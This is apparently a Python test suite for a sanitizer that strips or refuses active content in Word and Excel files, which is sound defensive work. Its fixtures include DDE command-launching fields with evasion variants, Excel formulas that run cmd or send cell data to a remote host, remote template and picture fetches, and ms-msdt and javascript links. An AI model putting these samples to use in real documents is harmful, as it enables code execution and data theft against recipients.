"""What a Word or Excel file would start, fetch or hide: left out where the document stays whole."""

from __future__ import annotations

import io
import zipfile
from typing import Any

import docx
import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from handlers.files import REASONS, REMARKS
from scheduler.content_checked import PARTS_DROPPED, Checked, ContentRefused, Reason
from scheduler.opening.content_check import check
from tests.hostile import (
    MIB,
    SAID,
    excel_parts,
    packed,
    relation,
    relations,
    swollen_word,
    word_parts,
)

Parts = dict[str, str | bytes]
MICROSOFT = "http://schemas.microsoft.com/office"


def taken(parts: Parts) -> Checked:
    return check(packed(parts), None)


def inside(checked: Checked) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(checked.data)) as package:
        return {name: package.read(name) for name in package.namelist()}


def kept(parts: Parts) -> dict[str, bytes]:
    return inside(taken(parts))


def refusal(parts: Parts) -> Reason:
    with pytest.raises(ContentRefused) as refused:
        taken(parts)
    return refused.value.reason


def text_of(checked: Checked) -> str:
    return "\n".join(each.text for each in docx.Document(io.BytesIO(checked.data)).paragraphs)


# Fields of Word


def run(inner: str) -> str:
    return f"<w:r>{inner}</w:r>"


def turn(kind: str) -> str:
    return run(f'<w:fldChar w:fldCharType="{kind}"/>')


def field(*instructions: str, shows: str = "42", of: str = "instrText") -> str:
    said = "".join(run(f"<w:{of}>{piece}</w:{of}>") for piece in instructions)
    middle = f"{turn('begin')}{said}{turn('separate')}"
    return f"<w:p>{middle}{run(f'<w:t>{shows}</w:t>')}{turn('end')}</w:p>"


QUOTED = f"{turn('begin')}{run('<w:instrText>QUOTE 68 68 69</w:instrText>')}{turn('end')}"
ACTING = {
    "in one piece": field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'),
    "in small letters": field(" dde Excel a.xls"),
    "in pieces": field("D", "DE", "AUTO cmd"),
    "in escaped letters": field("&#68;&#x44;EAUTO cmd"),
    "in a revision": field("DDEAUTO cmd", of="delInstrText"),
    "made by another field": f"<w:p>{turn('begin')}{QUOTED}{turn('separate')}"
    f"{run('<w:t>42</w:t>')}{turn('end')}</w:p>",
    "in another field": f"<w:p>{turn('begin')}{run('<w:instrText>IF 1 </w:instrText>')}"
    f"{field('DDEAUTO cmd')[5:-6]}{turn('end')}</w:p>",
    "in short": f"<w:p><w:fldSimple w:instr='DDEAUTO a &gt; \"b\"'>{run('<w:t>42</w:t>')}"
    "</w:fldSimple></w:p>",
    "never ended": f"<w:p>{turn('begin')}{run('<w:instrText>DDEAUTO cmd</w:instrText>')}"
    f"{run('<w:t>42</w:t>')}</w:p>",
    "a picture from elsewhere": field('INCLUDEPICTURE "http://example.org/a.png" \\d'),
    "another file": field('INCLUDETEXT "//host/share/a.docx"'),
    "a macro": field("MACROBUTTON FileExit press"),
}


@pytest.mark.parametrize("how", ACTING)
def test_a_field_that_acts_becomes_the_text_it_showed(how: str) -> None:
    checked = taken(word_parts(ACTING[how]))
    document = inside(checked)["word/document.xml"]
    assert not [name for name in (b"instr", b"fldChar", b"fldSimple") if name in document]
    assert text_of(checked).split() == [SAID, "42"]
    assert checked.remark == PARTS_DROPPED


def test_fields_that_only_show_stay_as_they_are() -> None:
    harmless = field(" PAGE ") + field('TOC \\o "1-3"') + field(' HYPERLINK "https://a.go.th" ')
    parts = word_parts(harmless)
    checked = taken(parts)
    assert inside(checked)["word/document.xml"].decode() == parts["word/document.xml"]
    assert checked.remark is None


@given(st.lists(st.integers(1, 10), max_size=6), st.sampled_from("sPrT"), st.booleans())
def test_no_way_of_cutting_it_up_brings_a_field_through(
    cuts: list[int], prefix: str, escaped: bool
) -> None:
    command, pieces = "DDEAUTO cmd", []
    for cut in cuts:
        pieces.append(command[:cut])
        command = command[cut:]
    told = [*pieces, command]
    if escaped:
        told = ["".join(f"&#{ord(letter)};" for letter in piece) for piece in told]
    body = field(*told).replace("w:", f"{prefix}:")
    names = f'xmlns:{prefix}="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    document = (
        f"<{prefix}:document {names}><{prefix}:body>{body}</{prefix}:body></{prefix}:document>"
    )
    cleaned = kept({**word_parts(), "word/document.xml": document})["word/document.xml"]
    assert b"instrText" not in cleaned and b">42<" in cleaned


# Files in files, and what else hangs on relationships

OBJECT = (
    '<w:p><w:r><w:object><v:shape><v:imagedata r:id="rId2"/></v:shape>'
    '<o:OLEObject Type="Embed" ProgID="Package" ShapeID="a>b" r:id="rId1"/></w:object></w:r></w:p>'
)


@pytest.mark.parametrize("kind", ["oleObject", "package"])
def test_an_embedded_file_goes_and_its_picture_stays(kind: str) -> None:
    links = relation(1, kind, "embeddings/a.bin"), relation(2, "image", "media/a.png")
    parts = {**word_parts(OBJECT, *links), "word/embeddings/a.bin": b"MZ evil",
             "word/media/a.png": b"\x89PNG"}  # fmt: skip
    checked = taken(parts)
    found = inside(checked)
    assert "word/embeddings/a.bin" not in found and b"evil" not in b"".join(found.values())
    assert b"OLEObject" not in found["word/document.xml"]
    assert b'<v:imagedata r:id="rId2"/></v:shape></w:object>' in found["word/document.xml"]
    assert found["word/media/a.png"] == b"\x89PNG"
    assert checked.remark == PARTS_DROPPED and SAID in text_of(checked)


def test_a_part_no_relationship_names_is_left_out_without_a_word() -> None:
    checked = taken({**word_parts(), "evil.exe": b"MZ", "word/a.xml": "<a/>", "b.docx": b"PK"})
    assert set(inside(checked)) == {"[Content_Types].xml", "_rels/.rels", "word/document.xml",
                                    "word/_rels/document.xml.rels"}  # fmt: skip
    assert checked.remark is None


DROPPED = [
    ("customXml", "../customXml/item1.xml"),
    (f"{MICROSOFT}/2011/relationships/webextensiontaskpanes", "webextensions/taskpanes.xml"),
    (f"{MICROSOFT}/2007/relationships/ui/extensibility", "customUI/customUI14.xml"),
    (f"{MICROSOFT}/2006/relationships/keyMapCustomizations", "customizations.xml"),
    ("recipientData", "recipients.xml"),
]


@pytest.mark.parametrize(("kind", "target"), DROPPED)
def test_what_no_reader_sees_is_left_out(kind: str, target: str) -> None:
    part = "customXml/item1.xml" if target.startswith("..") else f"word/{target}"
    found = kept({**word_parts("", relation(1, kind, target)), part: "<evil/>"})
    assert part not in found
    assert target.encode() not in found["word/_rels/document.xml.rels"]


@pytest.mark.parametrize(
    ("body", "link"),
    [
        ('<w:altChunk r:id="rId1"/>', relation(1, "aFChunk", "a.html")),
        ('<w:altChunk r:id="rId1"/>', relation(1, "hyperlink", "http://a.org/", outside=True)),
        ('<w:subDoc r:id="rId1"/>', relation(1, "subDocument", "//host/a.docx", outside=True)),
        ("", relation(1, f"{MICROSOFT}/2099/relationships/somethingNew", "a.xml")),
        ("", relation(1, "image", "a.html")),
    ],
)
def test_what_cannot_be_left_out_is_refused(body: str, link: str) -> None:
    parts = {**word_parts(body, link), "word/a.html": b"MZ<script>", "word/a.xml": "<a/>"}
    assert refusal(parts) is Reason.ACTIVE_PARTS


@pytest.mark.parametrize(
    "body", [b"MZ", b"\x7fELF", b"PK\x03\x04", bytes.fromhex("d0cf11e0a1b11ae1"), b"#!/bin/sh"]
)
def test_a_program_or_an_archive_that_passes_as_a_picture_is_refused(body: bytes) -> None:
    parts = {**word_parts("", relation(1, "image", "media/a.png")), "word/media/a.png": body}
    assert refusal(parts) is Reason.ACTIVE_PARTS


@pytest.mark.parametrize(
    "kind",
    ["control", f"{MICROSOFT}/2006/relationships/vbaProject",
     f"{MICROSOFT}/2006/relationships/xlMacrosheet"],
)  # fmt: skip
def test_macros_and_controls_are_refused_by_their_relationship(kind: str) -> None:
    parts = {**word_parts("", relation(1, kind, "a.xml")), "word/a.xml": "<a/>"}
    assert refusal(parts) is Reason.HAS_MACROS


@pytest.mark.parametrize(
    ("target", "stays"),
    [("https://example.go.th/", True), ("mailto:a@example.go.th", True), ("#bookmark", True),
     ("file:///C:/Users/somchai/a.docx", False), ("\\\\host\\share", False),
     ("ms-msdt:/id", False), ("javascript:alert(1)", False), ("../a.docx", False)],
)  # fmt: skip
def test_only_links_to_pages_and_letters_keep_their_address(target: str, stays: bool) -> None:
    found = kept(word_parts("", relation(1, "hyperlink", target, outside=True)))
    assert (target.encode() in found["word/_rels/document.xml.rels"]) == stays


@pytest.mark.parametrize("kind", ["attachedTemplate", "image", "oleObject", "frame"])
def test_nothing_is_fetched_from_elsewhere_on_opening(kind: str) -> None:
    settings = relation(2, kind, "https://example.org/a.dotm", outside=True)
    parts = {**word_parts("", relation(1, "settings", "settings.xml")),
             "word/settings.xml": '<s xmlns:r="r"><attachedTemplate r:id="rId2"/><zoom/></s>',
             "word/_rels/settings.xml.rels": relations(settings)}  # fmt: skip
    found = kept(parts)
    assert b"example.org" not in b"".join(found.values())
    assert found["word/settings.xml"] == b'<s xmlns:r="r"><zoom/></s>'


def test_a_chart_keeps_its_figures_and_loses_the_workbook_behind_it() -> None:
    chart = '<c:chart xmlns:c="c" xmlns:r="r"><c:v>7</c:v><c:externalData r:id="rId1">' \
            '<c:autoUpdate c:val="0"/></c:externalData></c:chart>'  # fmt: skip
    parts = {**word_parts("", relation(1, "chart", "charts/chart1.xml")),
             "word/charts/chart1.xml": chart, "word/embeddings/a.xlsx": b"PK",
             "word/charts/_rels/chart1.xml.rels":
             relations(relation(1, "package", "../embeddings/a.xlsx"))}  # fmt: skip
    found = kept(parts)
    assert found["word/charts/chart1.xml"].endswith(b"<c:v>7</c:v></c:chart>")
    assert "word/embeddings/a.xlsx" not in found


# Excel


def cell(formula: str, value: str = "7") -> str:
    return f'<row r="1"><c r="A1"><f>{formula}</f><v>{value}</v></c></row>'


def first_cell(checked: Checked) -> Any:
    return openpyxl.load_workbook(io.BytesIO(checked.data))["a"]["A1"].value


@pytest.mark.parametrize(
    "formula",
    ["cmd|'/c calc'!A0", "1+cmd&#124;'/c calc'!A0", "<![CDATA[cmd|'/c calc'!A0]]>",
     "'a\"b'!A1+cmd|'/c'!A0+'c\"d'!A1", '_xlfn.WEBSERVICE("https://a.org/?"&amp;A2)',
     'HYPERLINK("http://a.org/?"&amp;A2,"press")', 'RTD("a.b",,"c")', 'call ("a","b","c")',
     '_xlfn.IMAGE("https://a.org/a.png")'],
)  # fmt: skip
def test_a_sheet_with_a_formula_that_reaches_out_keeps_its_values_alone(formula: str) -> None:
    rows = cell(formula) + '<row r="2"><c r="A2"><f t="shared" si="0"/><v>8</v></c></row>'
    checked = taken(excel_parts(rows))
    sheet = inside(checked)["xl/worksheets/sheet1.xml"]
    assert b"<f" not in sheet and b"<v>8</v>" in sheet
    assert first_cell(checked) == 7
    assert checked.remark == PARTS_DROPPED


@pytest.mark.parametrize(
    "formula", ["SUM(A2:A9)", "IF(A2&gt;1,&quot;ก&quot;,[1]a!B2)", "MYCALL(1)"]
)
def test_other_formulas_stay(formula: str) -> None:
    parts = excel_parts(cell(formula))
    checked = taken(parts)
    sheet = inside(checked)["xl/worksheets/sheet1.xml"].decode()
    assert sheet == parts["xl/worksheets/sheet1.xml"]
    assert checked.remark is None


def test_a_name_that_stands_for_a_program_is_cut_out() -> None:
    named = (
        "<definedNames><definedName name=\"a\">cmd|'/c calc'!A0</definedName>"
        '<definedName name="b">a!$A$1</definedName></definedNames>'
    )
    book = kept(excel_parts(cell("1+1"), named))["xl/workbook.xml"]
    assert b"cmd" not in book and b'<definedName name="b">' in book


@pytest.mark.parametrize(
    "beside",
    ["<conditionalFormatting><cfRule><formula>cmd|'/c calc'!A0</formula></cfRule>"
     "</conditionalFormatting>",
     '<dataValidations><dataValidation><formula1>WEBSERVICE("a")</formula1></dataValidation>'
     "</dataValidations>"],
)  # fmt: skip
def test_a_rule_that_reaches_out_is_refused(beside: str) -> None:
    assert refusal(excel_parts(cell("1"), "", beside)) is Reason.ACTIVE_PARTS


def linked(inner: str, *outward: str) -> Parts:
    names = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="r"'
    own = relation(2, "externalLink", "externalLinks/externalLink1.xml")
    return {
        **excel_parts(cell("1"), "", "", own),
        "xl/externalLinks/externalLink1.xml": f"<externalLink {names}>{inner}</externalLink>",
        "xl/externalLinks/_rels/externalLink1.xml.rels": relations(*outward),
    }


@pytest.mark.parametrize("how", ["ddeLink", "oleLink"])
def test_a_link_to_another_program_is_refused(how: str) -> None:
    assert refusal(linked(f'<{how} ddeService="cmd" ddeTopic="/c calc"/>')) is Reason.ACTIVE_PARTS


def test_a_link_to_another_workbook_keeps_its_values_and_loses_its_address() -> None:
    path = relation(1, "externalLinkPath", "file:///C:/Users/somchai/a.xlsx", outside=True)
    found = kept(linked('<externalBook r:id="rId1"><v>7</v></externalBook>', path))
    assert b"<v>7</v>" in found["xl/externalLinks/externalLink1.xml"]
    assert b"somchai" not in b"".join(found.values())


@pytest.mark.parametrize("kind", ["connections", "queryTable"])
def test_data_fetched_from_elsewhere_is_refused(kind: str) -> None:
    parts = {**excel_parts(cell("1"), "", "", relation(2, kind, "a.xml")), "xl/a.xml": "<a/>"}
    assert refusal(parts) is Reason.ACTIVE_PARTS


def test_objects_of_a_sheet_and_the_order_of_computing_go() -> None:
    objects = '<oleObjects><oleObject progId="Package" r:id="rId1"/></oleObjects>'
    parts = excel_parts(cell("1+1"), "", objects, relation(2, "calcChain", "calcChain.xml"))
    parts["xl/worksheets/_rels/sheet1.xml.rels"] = relations(
        relation(1, "oleObject", "../embeddings/a.bin")
    )
    checked = taken({**parts, "xl/embeddings/a.bin": b"MZ", "xl/calcChain.xml": "<calcChain/>"})
    assert set(inside(checked)) == set(parts)
    assert b"oleObject" not in inside(checked)["xl/worksheets/sheet1.xml"]
    assert checked.remark == PARTS_DROPPED


# Bounds


@pytest.mark.parametrize(
    ("more", "reason"),
    [
        ({"word/_rels/document.xml.rels": relations(" " * 3 * MIB)}, Reason.TOO_BIG),
        ({"word/media/a.bin": bytes(65 * MIB)}, Reason.TOO_BIG),
        ({f"word/{number}.xml": "<a/>" for number in range(2_001)}, Reason.TOO_BIG),
        ({"word/document.xml": "<a/>".encode("utf-16")}, Reason.BROKEN),
        ({"word/document.xml": "<?xml version='1.0' encoding='utf-7'?><a/>"}, Reason.BROKEN),
        ({"_rels/.rels": relations()}, Reason.BROKEN),
    ],
)
def test_a_package_beyond_the_bounds_is_refused(more: Parts, reason: Reason) -> None:
    noise = {"word/noise.bin": bytes(range(256)) * 4096}  # not to be refused for its ratio alone
    assert refusal({**word_parts(), **noise, **more}) is reason


@pytest.mark.soak
def test_a_swollen_list_of_links_is_refused_before_it_is_unpacked() -> None:
    with pytest.raises(ContentRefused) as refused:
        check(swollen_word(), "a.docx")
    assert refused.value.reason is Reason.TOO_BIG


# What ordinary programs write


def test_a_document_of_an_ordinary_program_opens_again_with_all_it_says() -> None:
    made, out = docx.Document(), io.BytesIO()
    made.add_heading("แผน", 1)
    made.add_table(1, 1).cell(0, 0).text = SAID
    made.sections[0].header.paragraphs[0].text = "หัวกระดาษ"
    made.save(out)
    checked = check(out.getvalue(), "แผน.docx")
    again = docx.Document(io.BytesIO(checked.data))
    assert again.paragraphs[0].text == "แผน" and again.tables[0].cell(0, 0).text == SAID
    assert again.sections[0].header.paragraphs[0].text == "หัวกระดาษ"
    assert again.paragraphs[0].style is not None and again.paragraphs[0].style.name == "Heading 1"
    assert checked.remark is None


@given(st.text(st.characters(codec="utf-8", exclude_categories=("Cs", "Cc")), max_size=30))
def test_any_words_are_kept_to_the_letter(words: str) -> None:
    said = "".join(f"&#{ord(letter)};" for letter in words)
    parts = word_parts(f"<w:p><w:r><w:t>{said}</w:t></w:r></w:p>{ACTING['in short']}")
    document = kept(parts)["word/document.xml"]
    assert f"<w:t>{said}</w:t>".encode() in document and b"fldSimple" not in document


def test_every_reason_and_remark_has_its_sentence() -> None:
    assert set(Reason) <= set(REASONS) and set(REMARKS) == {PARTS_DROPPED}
